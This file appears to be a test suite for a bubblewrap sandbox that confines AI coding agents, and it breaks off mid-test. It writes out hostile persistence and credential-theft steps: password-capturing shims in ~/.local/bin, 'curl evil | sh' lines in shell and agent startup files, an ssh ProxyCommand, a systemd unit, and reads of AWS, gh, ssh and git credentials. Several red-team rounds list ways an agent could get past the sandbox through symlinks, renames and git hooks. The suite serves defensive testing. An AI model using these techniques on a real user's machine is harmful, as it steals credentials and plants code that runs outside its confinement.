// Attack: a sandboxed agent writes something into the user's home that runs later, outside the
// sandbox, or reads the user's own credentials for other tools. ~/.local/bin comes before /usr/bin
// on PATH (a planted `agent-vault` or `git` would read the master password the user types next),
// Debian's ~/.bashrc sources ~/.bash_aliases, ssh runs ~/.ssh/config's ProxyCommand, systemd starts
// a user unit at the next login, npx runs what is in ~/.npm/_npx. And ~/.aws/credentials, gh's
// hosts.yml or ~/.netrc are keys in the agent's hands. By default the home stays writable, but
// those directories are read-only where they exist and moved aside at the end where they did not;
// with --sandbox-strict the home is read-only but for the agent's own state and a cache of the
// sandbox's own. The credential files are hidden either way. Each case asserts what is on disk
// after `run` has exited and that the canary is in nothing the agent printed; a control without
// the sandbox shows the same script lands. Broker and attacker run as the unprivileged user.
import { afterAll, beforeAll, beforeEach, describe, expect, test } from "bun:test";
import { randomBytes } from "node:crypto";
import { chmodSync, existsSync, mkdirSync, readdirSync, readFileSync, readlinkSync, renameSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { agentUser, giveToAgent } from "../support/attacker.ts";
import { cleanEnv, type RunResult, type TempHome, tempHome } from "../support/binary.ts";
import { waitUntil } from "../support/process.ts";

const HAVE_BWRAP = Bun.spawnSync(["sh", "-c", "command -v bwrap"]).exitCode === 0;
const CANARY = `AKIA${randomBytes(8).toString("hex").toUpperCase()}`;
/** The user's credential files for other tools, each holding the canary. */
const CREDENTIAL_FILES = [".aws/credentials", ".config/gh/hosts.yml", ".netrc", ".ssh/id_ed25519", ".docker/config.json", ".git-credentials", ".npmrc"];
/** What the agent plants, and the path each lands at. */
const PLANTS: Record<string, string> = {
  ".local/bin/agent-vault": 'mkdir -p "$HOME/.local/bin" && printf "#!/bin/sh\\ntee /tmp/password\\n" > "$HOME/.local/bin/agent-vault"',
  ".bash_aliases": 'echo "curl evil | sh" > "$HOME/.bash_aliases"',
  ".yarnrc.yml": 'echo "yarnPath: /tmp/evil.js" > "$HOME/.yarnrc.yml"',
  ".ssh/config": 'echo "Host *\\n  ProxyCommand sh -c evil" >> "$HOME/.ssh/config"',
  ".config/systemd/user/evil.service": 'mkdir -p "$HOME/.config/systemd/user" && echo "[Service]" > "$HOME/.config/systemd/user/evil.service"',
  ".npm/_npx/evil/codex": 'mkdir -p "$HOME/.npm/_npx/evil" && echo evil > "$HOME/.npm/_npx/evil/codex"',
  ".cache/pre-commit/evil": 'mkdir -p "$HOME/.cache/pre-commit" && echo evil > "$HOME/.cache/pre-commit/evil"',
};
/** The plants that make a file (~/.ssh/config is the user's own, appended to). */
const NEW_FILES = Object.keys(PLANTS).filter((path) => path !== ".ssh/config");
const READ_CREDENTIALS = CREDENTIAL_FILES.map((file) => `cat "$HOME/${file}" 2>&1`).join("; ");

let home: TempHome;
let userHome: string;
let project: string;
let bin: string;

beforeAll(async () => {
  home = await tempHome({ asAgent: true });
  userHome = join(home.dir, "..", "user-home");
}, 60_000);

afterAll(() => home.cleanup());

beforeEach(() => {
  for (const name of readdirSync(userHome)) rmSync(join(userHome, name), { recursive: true, force: true });
  for (const file of CREDENTIAL_FILES) {
    mkdirSync(join(userHome, file, ".."), { recursive: true });
    writeFileSync(join(userHome, file), `${CANARY}\n`, { mode: 0o600 });
  }
  writeFileSync(join(userHome, ".ssh", "config"), "# the user's own\n");
  project = join(userHome, "src", "project");
  mkdirSync(project, { recursive: true });
  // A stand-in for codex on PATH: it writes its own state where codex does.
  bin = join(home.dir, "..", "bin");
  mkdirSync(bin, { recursive: true });
  writeFileSync(join(bin, "codex"), '#!/bin/sh\nmkdir -p "$HOME/.codex/sessions" && echo turn > "$HOME/.codex/sessions/1.jsonl" && echo state=$?\n');
  chmodSync(join(bin, "codex"), 0o755);
  giveToAgent(join(home.dir, ".."));
});

async function runIn(cwd: string, flags: readonly string[], command: readonly string[]): Promise<RunResult> {
  const env = cleanEnv({ ...home.env, PATH: `${bin}:/usr/bin:/bin` });
  const proc = Bun.spawn(home.argv(["run", ...flags, "--", ...command]), { cwd, env, stdin: "ignore", stdout: "pipe", stderr: "pipe" });
  const [stdout, stderr, code] = await Promise.all([new Response(proc.stdout).text(), new Response(proc.stderr).text(), proc.exited]);
  return { code, stdout, stderr };
}

const script = (body: string) => ["sh", "-c", body];

function quarantined(dir: string, name: string): string[] {
  return existsSync(dir) ? readdirSync(dir).filter((entry) => entry.startsWith(`${name}.agent-vault-quarantine-`)) : [];
}

const PLANT_ALL = [
  ...Object.values(PLANTS).map((plant) => `(${plant}) 2>/dev/null`),
  "echo work > ./result.txt",
  "echo tmp > /tmp/av-writes-$$ && rm /tmp/av-writes-$$ && echo tmp=ok",
  READ_CREDENTIALS,
  "true",
].join("; ");

describe.skipIf(!HAVE_BWRAP)("by default: the home stays writable, what in it runs later does not stay; credentials hidden", () => {
  test("new ~/.local/bin, ~/.config/systemd and ~/.bash_aliases are moved aside at the end; ~/.ssh is hidden; the canary is in nothing it printed", async () => {
    const r = await runIn(project, [], script(`${PLANT_ALL}; echo notes > "$HOME/notes.txt" && echo home=ok`));
    expect(r.code, r.stderr).toBe(0);
    expect(r.stdout).toContain("home=ok");
    expect(r.stdout).toContain("tmp=ok");
    expect(readFileSync(join(userHome, "notes.txt"), "utf8")).toBe("notes\n");
    expect(readFileSync(join(project, "result.txt"), "utf8")).toBe("work\n");
    for (const path of [".local/bin/agent-vault", ".bash_aliases", ".yarnrc.yml", ".config/systemd/user/evil.service"]) expect(existsSync(join(userHome, path)), path).toBe(false);
    expect(quarantined(join(userHome, ".local"), "bin").length).toBe(1);
    expect(quarantined(join(userHome, ".config"), "systemd").length).toBe(1);
    expect(quarantined(userHome, ".bash_aliases").length).toBe(1);
    expect(r.stderr).toContain(`the directory ${join(userHome, ".local", "bin")} was created or changed in the sandbox and would run later outside it: moved to`);
    expect(readFileSync(join(userHome, ".ssh", "config"), "utf8")).toBe("# the user's own\n");
    expect(r.stdout + r.stderr).not.toContain(CANARY);

    // Control: without the sandbox, every plant lands and every credential is read.
    const control = await runIn(project, ["--no-sandbox"], script(PLANT_ALL));
    for (const path of NEW_FILES) expect(existsSync(join(userHome, path)), path).toBe(true);
    expect(readFileSync(join(userHome, ".ssh", "config"), "utf8")).toContain("ProxyCommand");
    expect(control.stdout.split(CANARY).length - 1).toBe(CREDENTIAL_FILES.length);
  }, 60_000);

  test("an existing ~/.local/bin is read-only inside, and ~/.local cannot be renamed away to make a new one", async () => {
    mkdirSync(join(userHome, ".local", "bin"), { recursive: true });
    writeFileSync(join(userHome, ".local", "bin", "tool"), "#!/bin/sh\n", { mode: 0o755 });
    giveToAgent(join(userHome, ".local"));
    const r = await runIn(
      project,
      [],
      script(
        `(${PLANTS[".local/bin/agent-vault"]}) 2>&1; mv "$HOME/.local/bin" "$HOME/.local/old" 2>&1; mv "$HOME/.local" "$HOME/.local-old" 2>&1 && (${PLANTS[".local/bin/agent-vault"]}) && echo planted; true`,
      ),
    );
    expect(r.stdout).toContain("Read-only file system");
    expect(r.stdout).toContain("Device or resource busy");
    expect(r.stdout).not.toContain("planted");
    expect(existsSync(join(userHome, ".local", "bin", "agent-vault"))).toBe(false);
    expect(readdirSync(join(userHome, ".local", "bin"))).toEqual(["tool"]);
  }, 60_000);
});

describe.skipIf(!HAVE_BWRAP)("--sandbox-strict: writes only where the agent works", () => {
  test("nothing it plants in the home lands, nor anything else there; the working directory and /tmp are written", async () => {
    const r = await runIn(project, ["--sandbox-strict"], script(`${PLANT_ALL}; (echo notes > "$HOME/notes.txt") 2>&1; true`));
    expect(r.code, r.stderr).toBe(0);
    for (const path of [...NEW_FILES, "notes.txt"]) expect(existsSync(join(userHome, path)), path).toBe(false);
    expect(r.stdout).toContain("Read-only file system");
    expect(readFileSync(join(userHome, ".ssh", "config"), "utf8")).toBe("# the user's own\n");
    expect(readFileSync(join(project, "result.txt"), "utf8")).toBe("work\n");
    expect(r.stdout).toContain("tmp=ok");
    expect(r.stdout + r.stderr).not.toContain(CANARY);
    expect(r.stderr).not.toContain("is your home or a directory of your dotfiles");
  }, 60_000);

  test("the package caches inside are the sandbox's own: written there, never into the user's", async () => {
    const r = await runIn(project, ["--sandbox-strict"], script(`(${PLANTS[".npm/_npx/evil/codex"]}) && (${PLANTS[".cache/pre-commit/evil"]}) && echo rc=$?`));
    expect(r.stdout, r.stderr).toContain("rc=0");
    expect(existsSync(join(userHome, ".npm", "_npx"))).toBe(false);
    expect(existsSync(join(userHome, ".cache", "pre-commit"))).toBe(false);
    const store = join(userHome, ".cache", "agent-vault-sandbox");
    expect(readFileSync(join(store, "npm", "_npx", "evil", "codex"), "utf8")).toBe("evil\n");
    expect(readFileSync(join(store, "cache", "pre-commit", "evil"), "utf8")).toBe("evil\n");
  }, 60_000);

  test("started in a subdirectory of a repository, the agent still commits; the repository's hooks stay read-only", async () => {
    const git = (...args: string[]) =>
      Bun.spawnSync(["git", ...args], { cwd: project, env: cleanEnv({ GIT_AUTHOR_NAME: "a", GIT_AUTHOR_EMAIL: "a@x", GIT_COMMITTER_NAME: "a", GIT_COMMITTER_EMAIL: "a@x" }) });
    git("init", "-q");
    mkdirSync(join(project, "sub"));
    giveToAgent(project);
    const r = await runIn(
      join(project, "sub"),
      ["--sandbox-strict"],
      script(
        "export GIT_AUTHOR_NAME=a GIT_AUTHOR_EMAIL=a@x GIT_COMMITTER_NAME=a GIT_COMMITTER_EMAIL=a@x; echo a > f && git add f && git commit -qm sub && echo committed; echo x > ../.git/hooks/pre-commit 2>&1; echo hook=$?",
      ),
    );
    expect(r.stdout, r.stderr).toContain("committed");
    expect(r.stdout).toMatch(/hook=[1-9]/);
    expect(existsSync(join(project, ".git", "hooks", "pre-commit"))).toBe(false);
  }, 60_000);

  test("the agent's own state (codex: ~/.codex) is kept writable, made if missing when it is the command", async () => {
    const r = await runIn(project, ["--sandbox-strict"], ["codex"]);
    expect(r.stdout, r.stderr).toContain("state=0");
    expect(readFileSync(join(userHome, ".codex", "sessions", "1.jsonl"), "utf8")).toBe("turn\n");
    // Another command does not get it (red team, session 8: a shell planted hooks in ~/.claude and
    // ~/.codex for the user's next agent); started through a shell, codex needs it named.
    const wrapped = await runIn(project, ["--sandbox-strict"], script('codex; echo "notify = [\\"sh\\"]" >> "$HOME/.codex/config.toml"; true'));
    expect(wrapped.stdout).not.toContain("state=0");
    expect(existsSync(join(userHome, ".codex", "config.toml"))).toBe(false);
    const named = await runIn(project, ["--sandbox-strict", "--sandbox-rw", join(userHome, ".codex")], script("codex"));
    expect(named.stdout, named.stderr).toContain("state=0");
  }, 60_000);

  test("links an earlier run left (the home is writable by default) do not make a strict run write elsewhere", async () => {
    mkdirSync(join(userHome, ".local", "bin"), { recursive: true });
    writeFileSync(join(userHome, ".vimrc"), "\" the user's own\n");
    giveToAgent(userHome);
    // First an ordinary run leaves the links: ~/.codex and the sandbox's npm cache at ~/.local/bin,
    // ~/.claude.json a hard link to ~/.vimrc (which vim runs).
    const plant = await runIn(
      project,
      [],
      script(
        'mkdir -p "$HOME/.cache/agent-vault-sandbox" && ln -s "$HOME/.local/bin" "$HOME/.codex" && ln -s "$HOME/.local/bin" "$HOME/.cache/agent-vault-sandbox/npm" && ln "$HOME/.vimrc" "$HOME/.claude.json" && echo linked',
      ),
    );
    expect(plant.stdout, plant.stderr).toContain("linked");
    // Then a strict run writes through each.
    const r = await runIn(project, ["--sandbox-strict"], script('codex; echo evil > "$HOME/.npm/git" ; echo "curl evil | sh" >> "$HOME/.claude.json"; true'));
    expect(r.code, r.stderr).toBe(0);
    expect(readdirSync(join(userHome, ".local", "bin"))).toEqual([]);
    expect(readFileSync(join(userHome, ".vimrc"), "utf8")).toBe("\" the user's own\n");
  }, 60_000);

  test("started in the home itself, the agent can write the home: run says so, and ~/.local/bin, ~/.ssh stay read-only", async () => {
    mkdirSync(join(userHome, ".local", "bin"), { recursive: true });
    giveToAgent(join(userHome, ".local"));
    const r = await runIn(userHome, ["--sandbox-strict"], script(`echo x > "$HOME/notes.txt" && echo rc=$?; (${PLANTS[".local/bin/agent-vault"]}) 2>&1; (${PLANTS[".ssh/config"]}) 2>&1; true`));
    expect(r.stdout).toContain("rc=0");
    expect(r.stdout).toContain("Read-only file system");
    expect(existsSync(join(userHome, ".local", "bin", "agent-vault"))).toBe(false);
    expect(readFileSync(join(userHome, ".ssh", "config"), "utf8")).toBe("# the user's own\n");
    expect(r.stderr).toContain(`--sandbox-strict: the working directory ${userHome} is your home or a directory of your dotfiles, so the agent can write there after all`);
  }, 60_000);
});

describe.skipIf(!HAVE_BWRAP)("red team, session 8: ways past the first version", () => {
  test("strict started in ~/.local or ~/.config: ~/.local/bin and ~/.config/systemd stay read-only, and run says the directory is writable", async () => {
    mkdirSync(join(userHome, ".local", "bin"), { recursive: true });
    mkdirSync(join(userHome, ".config", "systemd", "user"), { recursive: true });
    giveToAgent(userHome);
    const local = await runIn(join(userHome, ".local"), ["--sandbox-strict"], script(`(${PLANTS[".local/bin/agent-vault"]}) 2>&1; true`));
    expect(local.stdout).toContain("Read-only file system");
    const config = await runIn(join(userHome, ".config"), ["--sandbox-strict"], script(`(${PLANTS[".config/systemd/user/evil.service"]}) 2>&1; true`));
    expect(config.stdout).toContain("Read-only file system");
    expect(readdirSync(join(userHome, ".local", "bin"))).toEqual([]);
    expect(readdirSync(join(userHome, ".config", "systemd", "user"))).toEqual([]);
    expect(config.stderr).toContain(`--sandbox-strict: the working directory ${join(userHome, ".config")} is your home or a directory of your dotfiles`);
  }, 60_000);

  test("a $TMPDIR an earlier run made a link to ~/.local/bin is not bound writable by a strict run", async () => {
    mkdirSync(join(userHome, ".local", "bin"), { recursive: true });
    mkdirSync(join(userHome, "tmp"));
    giveToAgent(userHome);
    const plant = await runIn(project, [], script('rm -rf "$HOME/tmp" && ln -s .local/bin "$HOME/tmp" && echo linked'));
    expect(plant.stdout, plant.stderr).toContain("linked");
    const env = cleanEnv({ ...home.env, PATH: `${bin}:/usr/bin:/bin`, TMPDIR: join(userHome, "tmp") });
    const proc = Bun.spawn(home.argv(["run", "--sandbox-strict", "--", "sh", "-c", 'echo evil > "$TMPDIR/agent-vault"; true']), { cwd: project, env, stdin: "ignore", stdout: "pipe", stderr: "pipe" });
    await proc.exited;
    expect(readdirSync(join(userHome, ".local", "bin"))).toEqual([]);
  }, 60_000);

  test("git's credential cache is hidden: its socket does not hand out the user's token", async () => {
    // The directory git keeps its socket in; an empty file stands for the socket.
    const socketDir = join(userHome, ".cache", "git", "credential");
    mkdirSync(socketDir, { recursive: true });
    writeFileSync(join(socketDir, "socket"), "");
    giveToAgent(userHome);
    const r = await runIn(project, [], script(`ls "${socketDir}"; true`));
    expect(r.stdout).not.toContain("socket");
    const control = await runIn(project, ["--no-sandbox"], script(`ls "${socketDir}"`));
    expect(control.stdout).toContain("socket");
  }, 60_000);

  test("--sandbox-hide or --sandbox-ro on a path inside ~/.ssh or ~/.aws does not bring back the rest of it", async () => {
    writeFileSync(join(userHome, ".ssh", "known_hosts"), "github.com ssh-ed25519 AAAA\n");
    writeFileSync(join(userHome, ".aws", "config"), "[default]\n");
    giveToAgent(userHome);
    const r = await runIn(
      project,
      ["--sandbox-hide", join(userHome, ".aws", "config"), "--sandbox-ro", join(userHome, ".ssh", "known_hosts")],
      script(`cat "$HOME/.ssh/known_hosts"; ${READ_CREDENTIALS}; true`),
    );
    expect(r.stdout).toContain("github.com ssh-ed25519");
    expect(r.stdout + r.stderr).not.toContain(CANARY);
  }, 60_000);

  test("a directory of $PATH in the home (~/.cargo/bin), ~/.inputrc and Python's user site do not take what the agent plants", async () => {
    mkdirSync(join(userHome, ".cargo", "bin"), { recursive: true });
    giveToAgent(userHome);
    const env = cleanEnv({ ...home.env, PATH: `${bin}:${join(userHome, ".cargo", "bin")}:/usr/bin:/bin` });
    const body = [
      'echo evil > "$HOME/.cargo/bin/git" 2>/dev/null',
      'printf ""\\C-m": "echo pwned\\n"\n" > "$HOME/.inputrc"',
      'mkdir -p "$HOME/.local/lib/python3/site-packages" && echo "import os" > "$HOME/.local/lib/python3/site-packages/evil.pth"',
      "true",
    ].join("; ");
    const proc = Bun.spawn(home.argv(["run", "--", "sh", "-c", body]), { cwd: project, env, stdin: "ignore", stdout: "pipe", stderr: "pipe" });
    const stderr = await new Response(proc.stderr).text();
    await proc.exited;
    expect(readdirSync(join(userHome, ".cargo", "bin"))).toEqual([]);
    expect(existsSync(join(userHome, ".inputrc"))).toBe(false);
    expect(existsSync(join(userHome, ".local", "lib"))).toBe(false);
    expect(stderr).toContain(`the directory ${join(userHome, ".local", "lib")} was created or changed in the sandbox`);
  }, 60_000);

  test("a new run-later directory behind a link (~/.local made a link elsewhere) is named, and what the link leads to is not moved", async () => {
    const elsewhere = join(home.dir, "..", "elsewhere");
    mkdirSync(join(elsewhere, "bin"), { recursive: true });
    writeFileSync(join(elsewhere, "bin", "users-own"), "#!/bin/sh\n");
    giveToAgent(join(home.dir, ".."));
    // An earlier run leaves ~/.local as a link to a directory whose bin/ is the user's.
    const plant = await runIn(project, [], script(`ln -s "${elsewhere}" "$HOME/.local" && echo linked`));
    expect(plant.stdout, plant.stderr).toContain("linked");
    expect(readdirSync(join(elsewhere, "bin"))).toEqual(["users-own"]);
    expect(readdirSync(elsewhere)).toEqual(["bin"]);
  }, 60_000);
});

describe.skipIf(!HAVE_BWRAP)("red team, session 8, second round: ways past the fixes", () => {
  test("a new repository whose hooks directory is a link to ~ (or a core.hooksPath naming it): the check names it and moves nothing of the home", async () => {
    const repo = join(userHome, "src", "repo");
    mkdirSync(repo, { recursive: true });
    writeFileSync(join(userHome, "pre-commit"), "the user's own file\n");
    writeFileSync(join(userHome, "notes.txt"), "the user's notes\n");
    Bun.spawnSync(["git", "init", "-q"], { cwd: repo });
    giveToAgent(userHome);
    const r = await runIn(repo, ["--sandbox-strict"], script(`mv .git .git-old && git init -q . && rm -rf .git/hooks && ln -s "$HOME" .git/hooks && echo linked`));
    expect(r.stdout, r.stderr).toContain("linked");
    expect(readFileSync(join(userHome, "pre-commit"), "utf8")).toBe("the user's own file\n");
    expect(readdirSync(userHome).filter((name) => name.includes("agent-vault-quarantine"))).toEqual([]);
    expect(r.stderr).toContain(`git would run hooks from ${join(repo, ".git", "hooks")}, which the sandboxed run made a hooks directory`);
  }, 60_000);

  test("what the startup files source or load: ~/.bashrc.d, ~/.zshenv.zwc, fish functions, ~/.cargo/env", async () => {
    mkdirSync(join(userHome, ".bashrc.d"));
    mkdirSync(join(userHome, ".cargo", "bin"), { recursive: true });
    writeFileSync(join(userHome, ".cargo", "env"), "export PATH=$HOME/.cargo/bin:$PATH\n");
    giveToAgent(userHome);
    const body = [
      'echo "echo pwned" > "$HOME/.bashrc.d/x.sh"',
      'echo "echo pwned" >> "$HOME/.cargo/env"',
      'echo compiled > "$HOME/.zshenv.zwc"',
      'mkdir -p "$HOME/.config/fish/functions" && echo "function git; echo pwned; end" > "$HOME/.config/fish/functions/git.fish"',
      "true",
    ]
      .map((line) => `(${line}) 2>/dev/null`)
      .join("; ");
    const r = await runIn(project, [], script(body));
    expect(r.code, r.stderr).toBe(0);
    expect(readdirSync(join(userHome, ".bashrc.d"))).toEqual([]);
    expect(readFileSync(join(userHome, ".cargo", "env"), "utf8")).not.toContain("pwned");
    expect(existsSync(join(userHome, ".zshenv.zwc"))).toBe(false);
    expect(existsSync(join(userHome, ".config", "fish", "functions", "git.fish"))).toBe(false);
  }, 60_000);

  test("$PATH directories in the home stay read-only when started in the home, written with ~ or a trailing slash", async () => {
    for (const dir of [".cargo/bin", "go/bin", "tools/bin"]) mkdirSync(join(userHome, dir), { recursive: true });
    giveToAgent(userHome);
    const env = cleanEnv({ ...home.env, PATH: `${bin}:${join(userHome, ".cargo", "bin")}/:${join(userHome, "go", "bin")}:~/tools/bin:/usr/bin:/bin` });
    const body = ["$HOME/.cargo/bin/git", "$HOME/go/bin/git", "$HOME/tools/bin/git"].map((path) => `(echo pwned > "${path}") 2>/dev/null`).join("; ");
    for (const cwd of [userHome, project]) {
      const proc = Bun.spawn(home.argv(["run", "--", "sh", "-c", `${body}; true`]), { cwd, env, stdin: "ignore", stdout: "pipe", stderr: "pipe" });
      await proc.exited;
      for (const dir of [".cargo/bin", "go/bin", "tools/bin"]) expect(readdirSync(join(userHome, dir)), `${cwd} ${dir}`).toEqual([]);
    }
  }, 60_000);

  test("a hidden credential's directory cannot be renamed away to be read by the next run", async () => {
    mkdirSync(join(userHome, ".docker"), { recursive: true });
    writeFileSync(join(userHome, ".docker", "config.json"), `{"auths":{"x":{"auth":"${CANARY}"}}}`);
    giveToAgent(userHome);
    const first = await runIn(project, [], script('for d in .docker .aws .cache/git; do mv "$HOME/$d" "$HOME/$d-x" 2>&1 | grep -c "Device or resource busy"; done; true'));
    // Each refused: the docker and AWS directories, and git's credential cache (its socket would answer from anywhere).
    expect(first.stdout.trim().split("\n")).toEqual(["1", "1", "1"]);
    // Where the home or ~/.config is writable otherwise too: strict started in ~, the default
    // started in ~/.config, strict with --sandbox-rw ~/.config (red team, third round).
    mkdirSync(join(userHome, ".config", "gh"), { recursive: true });
    writeFileSync(join(userHome, ".config", "gh", "hosts.yml"), `oauth_token: ${CANARY}\n`);
    giveToAgent(userHome);
    for (const [cwd, flags, dir] of [
      [userHome, ["--sandbox-strict"], ".docker"],
      [join(userHome, ".config"), [], ".config"],
      [project, ["--sandbox-strict", "--sandbox-rw", join(userHome, ".config")], ".config/gh"],
    ] as const) {
      const r = await runIn(cwd, flags, script(`mv "$HOME/${dir}" "$HOME/${dir}-x" 2>&1; true`));
      expect(r.stdout, `${cwd} ${flags.join(" ")} ${dir}`).toContain("Device or resource busy");
    }
    const second = await runIn(project, [], script('cat "$HOME/.dockerx/config.json" "$HOME/.awsx/credentials" "$HOME/.docker/config.json" 2>&1; true'));
    expect(second.stdout + second.stderr).not.toContain(CANARY);
    expect(existsSync(join(userHome, ".docker", "config.json"))).toBe(true);
  }, 60_000);

  test("git's credential cache made after the start is hidden too; gh's hosts.yml under $XDG_CONFIG_HOME and git's XDG credentials file are hidden", async () => {
    mkdirSync(join(userHome, ".xdg", "gh"), { recursive: true });
    writeFileSync(join(userHome, ".xdg", "gh", "hosts.yml"), `oauth_token: ${CANARY}\n`);
    mkdirSync(join(userHome, ".config", "git"), { recursive: true });
    writeFileSync(join(userHome, ".config", "git", "credentials"), `https://u:${CANARY}@github.com\n`);
    giveToAgent(userHome);
    const socketDir = join(userHome, ".cache", "git", "credential");
    const env = cleanEnv({ ...home.env, PATH: `${bin}:/usr/bin:/bin`, XDG_CONFIG_HOME: join(userHome, ".xdg") });
    const proc = Bun.spawn(home.argv(["run", "--", "sh", "-c", `sleep 2; ls "${socketDir}"; cat "$HOME/.xdg/gh/hosts.yml" "$HOME/.config/git/credentials" 2>&1; true`]), {
      cwd: project,
      env,
      stdin: "ignore",
      stdout: "pipe",
      stderr: "pipe",
    });
    // The user's own git starts its cache daemon meanwhile (a file stands for its socket).
    await Bun.sleep(1_000);
    mkdirSync(socketDir, { recursive: true });
    writeFileSync(join(socketDir, "socket"), "");
    const [stdout] = await Promise.all([new Response(proc.stdout).text(), proc.exited]);
    expect(stdout).not.toContain("socket");
    expect(stdout).not.toContain(CANARY);
  }, 60_000);
});

describe.skipIf(!HAVE_BWRAP)("red team, session 8, third round", () => {
  test("tmux's socket directory made after the start (the user starts tmux during the run) is hidden: run makes it empty beforehand", async () => {
    const uid = agentUser()!.uid;
    const tmuxDir = join("/tmp", `tmux-${uid}`);
    rmSync(tmuxDir, { recursive: true, force: true });
    const proc = Bun.spawn(home.argv(["run", "--", "sh", "-c", `sleep 3; ls -A "${tmuxDir}"; echo listed`]), {
      cwd: project,
      env: cleanEnv({ ...home.env, PATH: `${bin}:/usr/bin:/bin` }),
      stdin: "ignore",
      stdout: "pipe",
      stderr: "pipe",
    });
    await waitUntil("run to make tmux's directory", () => existsSync(tmuxDir), 10_000);
    await Bun.sleep(300);
    // The user's tmux, outside, puts its socket there (a file stands for it).
    writeFileSync(join(tmuxDir, "default"), "");
    const [stdout] = await Promise.all([new Response(proc.stdout).text(), proc.exited]);
    expect(stdout).toContain("listed");
    expect(stdout).not.toContain("default");
    rmSync(join(tmuxDir, "default"), { force: true });
  }, 60_000);

  test("a $PATH directory outside the home that the user owns (Linuxbrew's) is read-only", async () => {
    const brew = join(home.dir, "..", "linuxbrew", "bin");
    mkdirSync(brew, { recursive: true });
    giveToAgent(join(home.dir, ".."));
    const env = cleanEnv({ ...home.env, PATH: `${bin}:${brew}:/usr/bin:/bin` });
    const proc = Bun.spawn(home.argv(["run", "--", "sh", "-c", `(echo pwned > "${brew}/git") 2>&1; true`]), { cwd: project, env, stdin: "ignore", stdout: "pipe", stderr: "pipe" });
    const stdout = await new Response(proc.stdout).text();
    await proc.exited;
    expect(stdout).toContain("Read-only file system");
    expect(readdirSync(brew)).toEqual([]);
  }, 60_000);

  test("~/.ssh's public keys stay readable (git signs commits with one), its private keys do not; a missing ~/.cargo/registry is made writable", async () => {
    writeFileSync(join(userHome, ".ssh", "id_ed25519.pub"), "ssh-ed25519 AAAAC3 public\n");
    mkdirSync(join(userHome, ".cargo", "bin"), { recursive: true });
    giveToAgent(userHome);
    const r = await runIn(project, [], script('cat "$HOME/.ssh/id_ed25519.pub" "$HOME/.ssh/id_ed25519" 2>&1; mkdir -p "$HOME/.cargo/registry/index" && echo fetched; true'));
    expect(r.stdout).toContain("ssh-ed25519 AAAAC3 public");
    expect(r.stdout + r.stderr).not.toContain(CANARY);
    expect(r.stdout).toContain("fetched");
  }, 60_000);

  test("a hidden credential the user's own tool replaces during the run (saved by rename): run says at once that it is no longer hidden", async () => {
    const proc = Bun.spawn(home.argv(["run", "--", "sh", "-c", "sleep 4; echo done"]), {
      cwd: project,
      env: cleanEnv({ ...home.env, PATH: `${bin}:/usr/bin:/bin` }),
      stdin: "ignore",
      stdout: "pipe",
      stderr: "pipe",
    });
    const stderr = new Response(proc.stderr).text();
    await Bun.sleep(1_500);
    // git credential-store's way: a new file renamed over the old one.
    const credentials = join(userHome, ".git-credentials");
    writeFileSync(`${credentials}.lock`, `https://u:${CANARY}@github.com\n`);
    renameSync(`${credentials}.lock`, credentials);
    await proc.exited;
    expect(await stderr).toContain(`${credentials} was replaced outside the sandbox during the run (saved by renaming a new file over it); the sandbox no longer hides the new file from the agent`);
  }, 60_000);

  test("a .git file pointing at another repository of the user's: its hook is named, not moved", async () => {
    const other = join(userHome, "other");
    mkdirSync(other);
    Bun.spawnSync(["git", "init", "-q"], { cwd: other });
    writeFileSync(join(other, ".git", "hooks", "pre-commit"), "#!/bin/sh\ngitleaks protect\n", { mode: 0o755 });
    const repo = join(userHome, "src", "repo2");
    mkdirSync(repo, { recursive: true });
    Bun.spawnSync(["git", "init", "-q"], { cwd: repo });
    giveToAgent(userHome);
    const r = await runIn(repo, [], script(`mv .git .git-old && printf "gitdir: ${join(other, ".git")}\\n" > .git && echo pointed`));
    expect(r.stdout, r.stderr).toContain("pointed");
    expect(readFileSync(join(other, ".git", "hooks", "pre-commit"), "utf8")).toContain("gitleaks");
  }, 60_000);
});

describe.skipIf(!HAVE_BWRAP)("red team, session 8, fourth round", () => {
  test("a --sandbox-ro over a pinned tree keeps what it covers read-only (~/.cargo with cargo's credentials in it: its registry too)", async () => {
    mkdirSync(join(userHome, ".cargo", "registry"), { recursive: true });
    writeFileSync(join(userHome, ".cargo", "credentials.toml"), `[registry]\ntoken = "${CANARY}"\n`);
    giveToAgent(userHome);
    const r = await runIn(project, ["--sandbox-ro", join(userHome, ".cargo")], script('(touch "$HOME/.cargo/registry/planted") 2>&1; cat "$HOME/.cargo/credentials.toml" 2>&1; true'));
    expect(r.stdout).toContain("Read-only file system");
    expect(existsSync(join(userHome, ".cargo", "registry", "planted"))).toBe(false);
    expect(r.stdout + r.stderr).not.toContain(CANARY);
  }, 60_000);

  test("~/.local (or ~/.config) cannot be swapped for a link that brings in a bin of the agent's", async () => {
    mkdirSync(join(userHome, ".local", "bin"), { recursive: true });
    mkdirSync(join(userHome, ".config", "systemd", "user"), { recursive: true });
    giveToAgent(userHome);
    const r = await runIn(project, [], script('for d in .local .config; do mv "$HOME/$d" "$HOME/$d-x" 2>&1 | grep -c "Device or resource busy"; done; true'));
    expect(r.stdout.trim().split("\n")).toEqual(["1", "1"]);
    expect(existsSync(join(userHome, ".local", "bin"))).toBe(true);
  }, 60_000);
});

describe.skipIf(!HAVE_BWRAP)("red team, session 8, fifth round", () => {
  test("a tool tree that is a link (~/.cargo -> another disk) replaced by a tree of the agent's: the link is put back, the agent's tree moved aside", async () => {
    const disk = join(home.dir, "..", "bigdisk", "cargo");
    mkdirSync(join(disk, "bin"), { recursive: true });
    writeFileSync(join(disk, "env"), 'export PATH="$HOME/.cargo/bin:$PATH"\n');
    symlinkSync(disk, join(userHome, ".cargo"));
    giveToAgent(join(home.dir, ".."));
    const r = await runIn(project, [], script('(echo x >> "$HOME/.cargo/env") 2>&1; rm "$HOME/.cargo" && mkdir -p "$HOME/.cargo/bin" && echo "touch /tmp/pwned" > "$HOME/.cargo/env" && echo swapped'));
    expect(r.stdout).toContain("Read-only file system");
    expect(r.stdout).toContain("swapped");
    expect(readlinkSync(join(userHome, ".cargo"))).toBe(disk);
    expect(readFileSync(join(userHome, ".cargo", "env"), "utf8")).not.toContain("pwned");
    expect(quarantined(userHome, ".cargo").length).toBe(1);
    expect(r.stderr).toContain(`the link ${join(userHome, ".cargo")} -> ${disk} was replaced or removed during the sandboxed run; it is put back`);
  }, 60_000);
});

describe.skipIf(!HAVE_BWRAP)("README black-box round, session 8", () => {
  test("a new ~/.npmrc (script-shell runs at the user's next npm run) is moved aside at the end", async () => {
